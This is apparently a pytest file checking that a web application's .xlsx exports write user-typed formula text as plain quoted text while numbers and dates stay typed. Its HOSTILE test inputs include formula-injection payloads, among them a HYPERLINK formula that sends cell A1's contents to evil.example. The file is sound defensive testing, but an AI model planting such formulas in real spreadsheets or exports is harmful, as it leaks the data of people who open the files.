"""Every .xlsx export writes user-typed formula text as plain text; numbers and dates stay typed."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, datetime
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from app.accounts import services
from app.auth.models import User
from app.faults.services import file_problem, start_data
from app.org.models import Point
from app.spreadsheets import append, put, workbook_bytes
from tests.factories import CONTEXT, do, start_item11
from tests.web import logged_in

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"点此")', "=1+1", "@SUM(A1)", "+1+1", "-2+3", "\t=1+1")


def cells(content: bytes):
    """Yield every cell of every sheet of an .xlsx file."""
    book = load_workbook(BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_text_only(content: bytes, *texts: str) -> None:
    """No cell is a formula, and each text is there verbatim as a quote-prefixed string cell."""
    found = {}
    for cell in cells(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            found[cell.value] = cell
    for text in texts:
        assert text in found, text
        assert found[text].data_type == "s" and found[text].quotePrefix, text


def test_safe_writer_keeps_text_as_text_and_numbers_typed():
    book = Workbook()
    sheet = book.active
    append(sheet, (*HOSTILE, 42, 1.5, date(2026, 11, 23), "普通文字", None))
    put(sheet, 2, 1, "=1+1")
    put(sheet, 2, 2, "控制\x01字符\x00")
    sheet.cell(row=3, column=1, value="=A1")  # a direct write is caught when the book is saved
    content = workbook_bytes(book)
    assert_text_only(content, *HOSTILE, "=A1")
    back = load_workbook(BytesIO(content)).active
    row = [c.value for c in back[1]]
    assert row[6:9] == [42, 1.5, datetime(2026, 11, 23)] and back["G1"].data_type == "n"
    assert back["J1"].value == "普通文字" and not back["J1"].quotePrefix
    assert back["B2"].value == "控制字符"


def test_sla_export_writes_a_formula_name_as_text(web, engine, clock):
    start_item11(engine, replace(CONTEXT, applicant_name=HOSTILE[0]))
    clock.advance(days=30)
    response = logged_in(web, "supervisor1").get("/sla/export.xlsx")
    assert response.status_code == 200
    assert_text_only(response.data, HOSTILE[0])


def test_fault_export_writes_formula_descriptions_as_text(web, engine):
    form = {"fault_category": "guidance", "fault_line": "social_insurance", "fault_item": "",
            "fault_description": "=1+1", "fault_suggestion": "@SUM(A1)"}
    data = start_data(form, reporter_role="clerk", reporter_name="clerk1", place="p", item_label="", uploads=[])
    file_problem(engine, username="clerk1", point_code="LG-V01", town_code="LG", data=data, uploads=[])
    response = logged_in(web, "supervisor1").get("/faults/export.xlsx")
    assert response.status_code == 200
    assert_text_only(response.data, "=1+1", "@SUM(A1)")


def test_account_ledger_export_writes_formula_text_as_text(web, engine, store):
    from tests.app.test_accounts_ledger import NEW

    with store.session() as s:
        filer = s.scalar(select(User).where(User.username == "townstaff1"))
    case = services.file_request(engine, filer, dict(NEW, person_post="=1+1", person_unit="+SUM(1)"))
    do(engine, case, "account_review", {"account_decision": "approve", "account_opinion": "同意。"}, "reviewer1")
    response = logged_in(web, "townstaff1").get("/accounts/ledger/towns/LG/export.xlsx")
    assert response.status_code == 200
    assert_text_only(response.data, "=1+1", "+SUM(1)")


@pytest.mark.parametrize("path", ["/reports/point-detail.xlsx", "/reports/town-summary.xlsx"])
def test_report_exports_write_formula_point_names_as_text(web, store, path):
    with store.session(write=True) as s:
        s.scalar(select(Point).where(Point.code == "LG-V01")).name = "=HYPERLINK(\"http://x\")"
    response = logged_in(web, "supervisor1").get(path)
    assert response.status_code == 200
    for cell in cells(response.data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
    if path.endswith("point-detail.xlsx"):
        assert_text_only(response.data, "=HYPERLINK(\"http://x\")")
